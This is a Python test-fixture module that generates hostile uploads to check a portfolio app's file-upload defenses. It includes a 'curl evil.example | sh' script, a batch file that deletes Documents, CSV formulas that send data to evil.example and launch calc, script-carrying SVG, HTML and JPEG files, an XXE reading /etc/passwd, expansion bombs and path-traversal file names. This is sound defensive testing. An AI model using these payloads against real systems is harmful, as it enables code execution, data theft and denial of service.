"""Hostile uploads, made as bytes when a test runs (nothing downloaded, nothing committed).

Each entry says what the file is, why it is hostile, and what the portfolio must do with it:
refuse it with a message containing given words, or store it and serve it so that it cannot run
in a browser (tests/evidence/test_hostile_uploads.py checks both). The expected outcomes were
read from evidence/file_types.py, which judges a file by its bytes and never opens an archive
or parses XML; the reasoning for every file that is stored is in its ``what``.

Some entries are also fed to the BPMN import (``bpmn_refused_with``), which does parse XML.
"""

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from tests.evidence import samples

MEGABYTE = 1024 * 1024
SVG_NAMESPACE = 'xmlns="http://www.w3.org/2000/svg"'
BPMN_NAMESPACE = 'xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"'
_OFFICE = "application/vnd.openxmlformats-officedocument"
DOCX = f"{_OFFICE}.wordprocessingml.document"
XLSX = f"{_OFFICE}.spreadsheetml.sheet"


@dataclass(frozen=True)
class HostileFile:
    name: str  # the entry's name, used as the test id
    file_name: str  # sent exactly as given, as a browser would send it
    make: Callable[[], bytes]
    what: str  # what the file is, and for a stored file why storing it is safe
    refused_with: tuple[str, ...] = ()  # words of the learner's message; empty: stored
    status: int = 400  # for a refused file
    stored_as: str = ""  # the content type a stored file must get
    saved_as: str = ""  # the name a stored file downloads under, when not file_name
    claimed_length: int | None = None  # a Content-Length larger than the body actually sent
    max_file_bytes: int | None = None  # EVIDENCE_MAX_FILE_BYTES for this upload
    expands_to: int = 0  # bytes the file would become if its archive or XML were expanded
    written_as: str = ""  # a name that must never appear on disk (where traversal would write)
    bpmn_refused_with: tuple[str, ...] = ()  # words of the BPMN import's message, if fed to it

    @property
    def refused(self) -> bool:
        return bool(self.refused_with)

    @property
    def download_name(self) -> str:
        return self.saved_as or self.file_name


# --- Builders ----------------------------------------------------------------------------------


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry_name, data in entries.items():
            archive.writestr(entry_name, data)
    return buffer.getvalue()


def _add_to_zip(package: bytes, entries: dict[str, bytes]) -> bytes:
    """``package`` (a genuine Office file from samples) with more entries after its own, so its
    first entries still say what it is."""
    buffer = io.BytesIO(package)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for entry_name, data in entries.items():
            archive.writestr(entry_name, data)
    return buffer.getvalue()


def billion_laughs(root: str) -> bytes:
    """Ten entities of ten references each, nine deep: 3 GB of "lol" once expanded."""
    lines = ['<?xml version="1.0"?>', f"<!DOCTYPE {root.split()[0]} [", ' <!ENTITY lol "lol">']
    previous = "lol"
    for level in range(1, 10):
        lines.append(f' <!ENTITY lol{level} "{f"&{previous};" * 10}">')
        previous = f"lol{level}"
    lines += ["]>", f"<{root}><text>&{previous};</text></{root.split()[0]}>"]
    return "\n".join(lines).encode()


BILLION_LAUGHS_BYTES = 3 * 10**9


def external_entity() -> bytes:
    return (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE definitions [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
        b"<definitions " + BPMN_NAMESPACE.encode() + b">"
        b'<process id="p"><task id="t" name="&secret;"/></process></definitions>\n'
    )


def deeply_nested_xml(depth: int = 1000) -> bytes:
    return b'<?xml version="1.0"?>\n' + b"<a>" * depth + b"</a>" * depth


def zip_bomb_docx(zeros: int = 64 * MEGABYTE) -> bytes:
    """A real Word file with one more part: ``zeros`` bytes of zeros, deflated about 1000:1.
    Written a megabyte at a time, so making it never holds the expanded bytes."""
    buffer = io.BytesIO(samples.docx())
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/media/image1.bin", "w", force_zip64=True) as part,
    ):
        chunk = bytes(MEGABYTE)
        for _ in range(zeros // MEGABYTE):
            part.write(chunk)
    return buffer.getvalue()


def nested_zip(depth: int = 50) -> bytes:
    archive = samples.zip_archive()
    for level in range(depth):
        archive = _zip({f"level-{level}.zip": archive})
    return archive


def workbook_with_many_parts(count: int = 10_000) -> bytes:
    return _add_to_zip(
        samples.xlsx(),
        {f"xl/worksheets/sheet{number}.xml": b"<worksheet/>" for number in range(count)},
    )


def docx_with_program_inside() -> bytes:
    return _add_to_zip(samples.docx(), {"word/embeddings/setup.exe": samples.windows_executable()})


def docx_with_billion_laughs_part() -> bytes:
    return _add_to_zip(samples.docx(), {"word/settings.xml": billion_laughs("settings")})


def gif_with_jar_appended() -> bytes:
    """A "GIFAR": a GIF that is also a Java archive, since ZIP readers start from the end."""
    gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00"
    gif += b"\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    return gif + _zip({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": b"\xca\xfe"})


def jpeg_with_comment(comment: bytes) -> bytes:
    """A JPEG with a COM segment right after its start-of-image marker."""
    image = samples.jpeg()
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    return image[:2] + segment + image[2:]


def pdf_with_zip_appended() -> bytes:
    return samples.pdf() + samples.zip_archive()


def jpeg_with_zip_appended() -> bytes:
    return samples.jpeg() + samples.zip_archive()


def _text(text: str) -> Callable[[], bytes]:
    return lambda: text.encode()


# --- The corpus --------------------------------------------------------------------------------

_PROGRAM = ("program (executable)", "cannot accept")
_WEB_PAGE = ("web page code", "cannot be stored safely")
_FOLDER = ("folder separator", "Rename the file")
_HIDDEN = ("hidden control characters", "Rename the file")
_NOT_ACCEPTED = ("which a portfolio cannot accept", "Upload PDF, Word")
_SAFE_TEXT = (
    "Stored as plain text: served as text/plain, as an attachment, with nosniff and a sandbox "
    "policy, so no browser renders it."
)

CORPUS = [
    # Programs under the names of documents.
    HostileFile(
        "windows exe as pdf", "report.pdf", samples.windows_executable,
        "A Windows program (MZ and PE headers) named as a PDF.", _PROGRAM,
    ),
    HostileFile(
        "linux elf as jpg", "photo.jpg", samples.elf_executable,
        "A Linux program (ELF header) named as a photo.", _PROGRAM,
    ),
    HostileFile(
        "shell script as txt", "notes.txt", _text("#!/bin/sh\ncurl evil.example | sh\n"),
        "A shell script is clean UTF-8 text. " + _SAFE_TEXT + " A .txt file does not run.",
        stored_as="text/plain",
    ),
    HostileFile(
        "batch file", "timesheet.bat", _text("@echo off\r\ndel /q %USERPROFILE%\\Documents\r\n"),
        "A Windows batch file is text too. " + _SAFE_TEXT + " It saves as .bat.txt, so a "
        "double-click opens an editor instead of running it.",
        stored_as="text/plain", saved_as="timesheet.bat.txt",
    ),
    HostileFile(
        "double extension", "report.pdf.exe", samples.pdf,
        "A genuine PDF named as a program. Stored as the PDF it is; it saves as .exe.pdf.",
        stored_as="application/pdf", saved_as="report.pdf.exe.pdf",
    ),
    HostileFile(
        "gifar", "avatar.gif", gif_with_jar_appended,
        "A GIF with a Java archive appended. GIF is not an accepted type.",
        ("a .gif file", *_NOT_ACCEPTED),
    ),
    # Web pages and scripts.
    HostileFile(
        "html as pdf", "minutes.pdf", samples.html_page,
        "An HTML page named as a PDF.", _WEB_PAGE,
    ),
    HostileFile("html page", "page.html", samples.html_page, "An HTML page.", _WEB_PAGE),
    HostileFile(
        "svg with script", "chart.svg", samples.svg_with_script,
        "An SVG image with a <script> element.", _WEB_PAGE,
    ),
    HostileFile(
        "svg with onload", "logo.svg",
        _text(f'<svg {SVG_NAMESPACE} onload="fetch(\'/accounts/\')"><rect/></svg>'),
        "An SVG whose root runs script when it loads.", _WEB_PAGE,
    ),
    HostileFile(
        "html fragment with an event handler", "page.html",
        _text('<img src=x onerror="alert(document.domain)">\n'),
        "HTML with no <script> or page tag, whose script runs from an event-handler attribute.",
        _WEB_PAGE,
    ),
    HostileFile(
        "csv with formulas", "hours.csv",
        _text('date,hours\n2026-10-01,=HYPERLINK("http://evil.example/?"&A1,"7")\n'
              "2026-10-02,=cmd|' /C calc'!A0\n"),
        "Spreadsheet formulas in a CSV. " + _SAFE_TEXT + " It saves as .csv.txt, so it opens "
        "in an editor, not in a spreadsheet that would run the formulas.",
        stored_as="text/plain", saved_as="hours.csv.txt",
    ),
    # Polyglots: one file that is two things.
    HostileFile(
        "png with html appended", "chart.png", samples.png_with_html_appended,
        "A valid PNG followed by an HTML page.", _WEB_PAGE,
    ),
    HostileFile(
        "png with zip appended", "chart.png", samples.png_with_zip_appended,
        "A valid PNG followed by a ZIP archive.", ("extra data hidden after the end",),
    ),
    HostileFile(
        "pdf with html appended", "plan.pdf",
        lambda: samples.pdf() + samples.html_page(),
        "A valid PDF followed by an HTML page.", _WEB_PAGE,
    ),
    HostileFile(
        "pdf with zip appended", "plan.pdf", pdf_with_zip_appended,
        "A valid PDF followed by a ZIP archive. PDF allows data after %%EOF (incremental "
        "updates), so it is stored. It is served as application/pdf with nosniff and "
        "default-src 'none': only the PDF viewer reads it, and the ZIP cannot run in a browser.",
        stored_as="application/pdf",
    ),
    HostileFile(
        "jpeg with zip appended", "photo.jpg", jpeg_with_zip_appended,
        "A valid JPEG followed by a ZIP archive. Decoders stop at the end-of-image marker; it "
        "is served as image/jpeg with nosniff and a sandbox policy, so it shows as an image.",
        stored_as="image/jpeg",
    ),
    HostileFile(
        "jpeg with script in comment", "photo.jpg",
        lambda: jpeg_with_comment(b"<script>document.title = 'ran'</script>"),
        "A valid JPEG whose comment segment holds a script.", _WEB_PAGE,
    ),
    # Empty and too large.
    HostileFile(
        "zero bytes", "empty.pdf", bytes, "An empty file.", ("is empty (0 bytes)",),
    ),
    HostileFile(
        "oversize by content length", "video.mp4", samples.mp4,
        "A request whose Content-Length says 201 MB, over the 200 MB limit (the default, set "
        "here in case the environment changes it). The guard refuses it before reading the body.",
        ("the limit is 200.0 MB per file", "Nothing was stored"), status=413,
        claimed_length=201 * MEGABYTE, max_file_bytes=200 * MEGABYTE,
    ),
    HostileFile(
        "oversize while streaming", "big.pdf", lambda: samples.pdf() + b"0" * 5000,
        "A file larger than the limit (lowered to 1,000 bytes) that fits the request's "
        "allowance for form fields, so it is dropped as it streams to disk.",
        ("larger than 1000 bytes", "It was not stored"), max_file_bytes=1000,
    ),
    # Archives and XML that expand.
    HostileFile(
        "zip bomb as docx", "report.docx", zip_bomb_docx,
        "A real Word file with a part of 64 MB of zeros, 64 KB deflated. The portfolio never "
        "opens archives, so it is stored as the bytes sent and downloads as an attachment.",
        stored_as=DOCX, expands_to=64 * MEGABYTE,
    ),
    HostileFile(
        "nested zip 50 deep", "archive.docx", nested_zip,
        "A ZIP inside a ZIP, 50 deep, named as a Word file.", ("a .zip file", *_NOT_ACCEPTED),
    ),
    HostileFile(
        "xlsx with 10000 parts", "hours.xlsx", workbook_with_many_parts,
        "A real Excel file with 10,000 more parts. Never opened: stored, an attachment.",
        stored_as=XLSX,
    ),
    HostileFile(
        "docx with a program inside", "report.docx", docx_with_program_inside,
        "A real Word file carrying a Windows program as an embedded part. Never unpacked on "
        "the server; it downloads as an attachment, and Word does not run embedded programs.",
        stored_as=DOCX,
    ),
    HostileFile(
        "docx with billion laughs part", "report.docx", docx_with_billion_laughs_part,
        "A real Word file with an entity-expansion bomb as a part. The portfolio never parses "
        "a document's XML, so it is stored as sent and downloads as an attachment.",
        stored_as=DOCX, expands_to=BILLION_LAUGHS_BYTES,
    ),
    HostileFile(
        "billion laughs as xml", "laughs.xml",
        lambda: billion_laughs(f"definitions {BPMN_NAMESPACE}"),
        "An entity-expansion bomb. Never parsed on upload: " + _SAFE_TEXT,
        stored_as="text/plain", saved_as="laughs.xml.txt", expands_to=BILLION_LAUGHS_BYTES,
        bpmn_refused_with=("declares XML entities", "billion laughs"),
    ),
    HostileFile(
        "billion laughs as svg", "laughs.svg", lambda: billion_laughs(f"svg {SVG_NAMESPACE}"),
        "An entity-expansion bomb whose root is an SVG image.", _WEB_PAGE,
        expands_to=BILLION_LAUGHS_BYTES,
    ),
    HostileFile(
        "external entity xml", "process.xml", external_entity,
        "XML that would read /etc/passwd into a step's name. Never parsed on upload: "
        + _SAFE_TEXT,
        stored_as="text/plain", saved_as="process.xml.txt",
        bpmn_refused_with=("external entity", "file:///etc/passwd"),
    ),
    HostileFile(
        "xml nested 1000 deep", "deep.xml", deeply_nested_xml,
        "XML nested 1,000 elements deep. Never parsed on upload: " + _SAFE_TEXT,
        stored_as="text/plain", saved_as="deep.xml.txt",
        bpmn_refused_with=("nested more than 100 levels deep",),
    ),
    HostileFile(
        "zip as bpmn", "process.bpmn", samples.zip_archive,
        "A ZIP archive named as a BPMN diagram.", ("a .zip file", *_NOT_ACCEPTED),
        bpmn_refused_with=("not XML",),
    ),
    # Names. The content is a harmless PDF, so only the name can be the reason.
    HostileFile(
        "traversal with slashes", "../../evil.pdf", samples.pdf,
        "A name climbing out of the upload folder.", _FOLDER, written_as="evil.pdf",
    ),
    HostileFile(
        "traversal with backslashes", "..\\..\\evil.pdf", samples.pdf,
        "The same with Windows separators.", _FOLDER, written_as="evil.pdf",
    ),
    HostileFile(
        "absolute path", "/etc/cron.d/evil", samples.pdf,
        "An absolute path to a system folder.", _FOLDER, written_as="evil",
    ),
    HostileFile(
        "percent-encoded traversal", "%2e%2e%2fevil.pdf", samples.pdf,
        "Traversal written in URL encoding, which nothing decodes: the name is only shown, "
        "and the file is stored under a generated name.",
        stored_as="application/pdf", written_as="evil.pdf",
    ),
    HostileFile(
        "nul in name", "evil.pdf\x00.exe", samples.pdf,
        "A NUL byte, which C code would take for the end of the name.", _HIDDEN,
    ),
    HostileFile(
        "right-to-left override", "invoice\u202efdp.exe", samples.pdf,
        'A program name that displays as "invoiceexe.pdf".', _HIDDEN,
    ),
    HostileFile(
        "newline in name", "minutes\n.pdf", samples.pdf,
        "A line break, which splits headers and log lines.", _HIDDEN,
    ),
    HostileFile(
        "300 characters", "a" * 296 + ".pdf", samples.pdf,
        "A name longer than file systems allow.", ("300 characters long", "limit is 200"),
    ),
    HostileFile(
        "only dots", "..", samples.pdf,
        "A name meaning the parent folder. Django's parser drops such a file; the learner is "
        "told why.", ("only dots", "Rename the file"),
    ),
    HostileFile(
        "windows reserved name", "CON.pdf", samples.pdf,
        "A device name on Windows. Harmless here: the file is stored under a generated name.",
        stored_as="application/pdf",
    ),
    HostileFile(
        "unicode lookalike", "report\uff0epdf", samples.pdf,
        'A fullwidth full stop: looks like "report.pdf" but has no extension. It saves as .pdf.',
        stored_as="application/pdf", saved_as="report\uff0epdf.pdf",
    ),
]  # fmt: skip
